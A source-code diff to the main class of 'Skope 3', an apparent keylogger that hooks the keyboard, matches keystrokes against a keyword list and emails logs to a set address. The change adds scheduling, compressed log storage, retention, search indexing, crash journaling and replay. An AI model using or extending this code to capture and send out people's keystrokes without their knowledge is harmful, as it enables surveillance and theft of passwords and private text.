@@ -1,6 +1,7 @@
 package com.gundersoft.skope3;
 
 import java.awt.TrayIcon;
+import java.io.File;
 import java.io.IOException;
 import javax.swing.JOptionPane;
 import org.jnativehook.NativeHookException;
@@ -25,6 +26,8 @@ public class Main {
     private EmailService emailService;
     /** Error log Object */
     private Log log;
+    /** Runs all background work */
+    private Scheduler scheduler;
 	
     /**
      * Instantiates this instance of Skope 3 and starts up the application.
@@ -41,6 +44,9 @@ public class Main {
 		
 	// startup UI Builder
 	this.createUIBuilder();
+		
+	// start the thread pools that run background work
+	this.scheduler = new Scheduler();
 				
 	// create service and import dictionary file
 	this.createService();
@@ -97,9 +103,9 @@ public class Main {
 	this.emailService = new EmailService(this.settings.getStringValue("Skope3.Email.Username", null),
 					     this.settings.getStringValue("Skope3.Email.Password", null), 
 					     this.settings.getStringValue("Skope3.Email.Destination", null), 
-					     this.settings.getStringValue("Skope3.Service.TextLogFile", "textlog.dat"),
-					     this.settings.getStringValue("Skope3.Service.KeyLogFile", "textlog.dat"), lastDispatch,
-					     emailInterval, enabled, this.log);
+					     this.service.getKeylogger(), lastDispatch,
+					     emailInterval, enabled,
+					     this.scheduler.getPool(Scheduler.POOL_DISPATCH), this.log);
 		
 	// enable email service
 	if(this.settings.getBooleanValue("Skope3.Email.Enabled", false))
@@ -115,16 +121,31 @@ public class Main {
 	// create service and import dictionary
 	this.log.i("Creating SkopeShot Service Context");
 	try {
+	    LogStore eventStore = this.createLogStore("Skope3.Service.EventLogFile", "eventlog.dat");
 	    this.service = new Service(
 				       (int)this.settings.getNumberValue("Skope3.Service.DefaultDelay", 4000),
 				       (int)this.settings.getNumberValue("Skope3.Service.DefaultNumber", 10),
-				       this.settings.getStringValue("Skope3.Service.TextLogFile", "textlog.dat"),
-				       this.settings.getStringValue("Skope3.Service.KeyLogFile", "keylog.dat"),
-				       (int)this.settings.getNumberValue("Skope3.Service.TimeStampInterval", 5000),
-				       (int)this.settings.getNumberValue("Skope3.Service.BufferFlushInterval", 120000),
+				       eventStore,
+				       new FlushPolicy(
+						       (long)this.settings.getNumberValue("Skope3.Service.BufferFlushInterval", 120000),
+						       (long)this.settings.getNumberValue("Skope3.Service.FlushThresholdBytes", 65536),
+						       (long)this.settings.getNumberValue("Skope3.Service.BufferCeilingBytes", 8388608),
+						       (int)this.settings.getNumberValue("Skope3.Service.LowMemoryPercent", 10)),
+				       this.createJournal(),
+				       this.scheduler,
+				       this.createInputSource(),
 				       log);
 	    this.service.importKeywords(this.settings.getStringValue(
 								     "Skope3.Service.DictionaryFile", "keywords.dic"));
+
+	    // the logs the event log replaced, kept until cleared or too old
+	    LogStore textStore = new LogStore(new File(this.settings.getStringValue(
+							   "Skope3.Service.TextLogFile", "textlog.dat")));
+	    LogStore keyStore = new LogStore(new File(this.settings.getStringValue(
+							  "Skope3.Service.KeyLogFile", "keylog.dat")));
+	    this.service.getKeylogger().setLegacyLogs(textStore, keyStore);
+	    this.scheduleRetention(new LogStore[] { eventStore, textStore, keyStore },
+				   new TrigramIndex(eventStore.getBase().getPath(), EventLog.VIEW_TEXT));
 	} catch(NativeHookException e) {
 	    JOptionPane.showMessageDialog(null, "Unable to create low level keyboard event hook.", 
 					  "Skope 3", JOptionPane.ERROR_MESSAGE);
@@ -133,6 +154,102 @@ public class Main {
 	}
     }
 	
+    /**
+     * Prunes and compacts the logs on the I/O pool every
+     * Skope3.Service.RetentionInterval, keeping Skope3.Service.RetentionMillis
+     * of history and at most Skope3.Service.RetentionBytes on disk, and
+     * merging segments smaller than Skope3.Service.CompactBytes. Zero
+     * disables each limit. Segments sealed since the last run are then
+     * indexed for search, so the viewer only has to index the newest.
+     * @param stores The logs, pruned together.
+     * @param indexes Search indexes of the logs.
+     */
+    private void scheduleRetention(LogStore[] stores, final TrigramIndex... indexes) {
+	final RetentionPolicy policy = new RetentionPolicy(
+	    (long)this.settings.getNumberValue("Skope3.Service.RetentionMillis", 0),
+	    (long)this.settings.getNumberValue("Skope3.Service.RetentionBytes", 0),
+	    (long)this.settings.getNumberValue("Skope3.Service.CompactBytes", 65536),
+	    stores);
+	long interval = (long)this.settings.getNumberValue("Skope3.Service.RetentionInterval", 3600000);
+	this.scheduler.getPool(Scheduler.POOL_IO).scheduleAtFixedRate(new Runnable() {
+		@Override
+		public void run() {
+		    try {
+			if(policy.apply(System.currentTimeMillis()))
+			    Main.this.log.i("Log ", policy.getStatistics());
+		    } catch (IOException e) {
+			Main.this.log.w("Unable to compact logs: ", e.getMessage());
+		    }
+		    for(TrigramIndex index : indexes) {
+			try {
+			    index.update();
+			} catch (IOException e) {
+			    Main.this.log.w("Unable to index logs for search: ", e.getMessage());
+			}
+		    }
+		}
+	    }, interval, interval);
+    }
+
+    /**
+     * Creates a segmented log for one of the log file settings, with the
+     * segment limits from Skope3.Service.SegmentBytes and SegmentMillis.
+     * Sealed segments are compressed on the I/O pool at the Deflater level
+     * in Skope3.Service.CompressionLevel, 0 for none.
+     * @param setting Name of the setting that holds the log file name.
+     * @param defaultFile Log file name if the setting is missing.
+     * @return The log.
+     */
+    private LogStore createLogStore(String setting, String defaultFile) {
+	return new LogStore(new File(this.settings.getStringValue(setting, defaultFile)),
+			    (long)this.settings.getNumberValue("Skope3.Service.SegmentBytes", 1048576),
+			    (long)this.settings.getNumberValue("Skope3.Service.SegmentMillis", 86400000),
+			    this.scheduler.getPool(Scheduler.POOL_IO),
+			    (int)this.settings.getNumberValue("Skope3.Service.CompressionLevel", 6));
+    }
+	
+    /**
+     * Creates the source of keyboard events: the desktop hook, or a
+     * replay of a text file if Skope3.Service.ReplayFile is set.
+     * @return The event source.
+     * @throws NativeHookException Thrown if the hook can't be obtained.
+     */
+    private InputEventSource createInputSource() throws NativeHookException {
+	String replayFile = this.settings.getStringValue("Skope3.Service.ReplayFile", "");
+	if(replayFile.length() == 0)
+	    return new NativeHookSource();
+		
+	try {
+	    this.log.w("Replaying keystrokes from ", replayFile, " instead of the keyboard.");
+	    return ReplaySource.fromFile(replayFile,
+					 this.settings.getNumberValue("Skope3.Service.ReplayRate", 1000),
+					 (long)this.settings.getNumberValue("Skope3.Service.ReplayRepeat", 1));
+	} catch (IOException e) {
+	    this.log.e("Unable to read replay file. Using the keyboard.");
+	    return new NativeHookSource();
+	}
+    }
+	
+    /**
+     * Opens the keystroke write-ahead journal.
+     * @return The journal, or null if it is turned off or can't be opened.
+     */
+    private Journal createJournal() {
+	String journalFile = this.settings.getStringValue("Skope3.Service.JournalFile", "keylog.journal");
+	if(journalFile.length() == 0)
+	    return null;
+		
+	try {
+	    return new Journal(new File(journalFile),
+			       (int)this.settings.getNumberValue("Skope3.Service.JournalSize", 1048576),
+			       Journal.parseSyncMode(this.settings.getStringValue("Skope3.Service.JournalSync", "interval")),
+			       (long)this.settings.getNumberValue("Skope3.Service.JournalSyncInterval", 1000));
+	} catch (IOException e) {
+	    this.log.e("Unable to open keystroke journal. Unflushed keystrokes won't survive a crash.");
+	    return null;
+	}
+    }
+	
     /**
      * Initialize the User interface builder context.
      */
@@ -203,6 +320,14 @@ public class Main {
 	return this.service;
     }
 	
+    /**
+     * Gets the scheduler all background work runs on.
+     * @return The scheduler.
+     */
+    public Scheduler getScheduler() {
+	return this.scheduler;
+    }
+	
     /**
      * Gets the UI builder context.
      * @return The UIcontext.
@@ -285,6 +410,13 @@ public class Main {
 	// save settings
 	this.log.i("Saving Settings.");
 	this.settings.save();
+		
+	// write out the keylogs and stop background work
+	this.log.i("Stopping keylogger. ", this.service.getKeylogger().getFlushStatistics());
+	this.service.getKeylogger().destroy();
+	this.log.i("Stopping scheduler. ", this.scheduler.getStatistics());
+	if(!this.scheduler.shutdown(5000))
+	    this.log.w("Background tasks did not finish in time.");
 
 	// save log and quit
 	emergencyTerminate();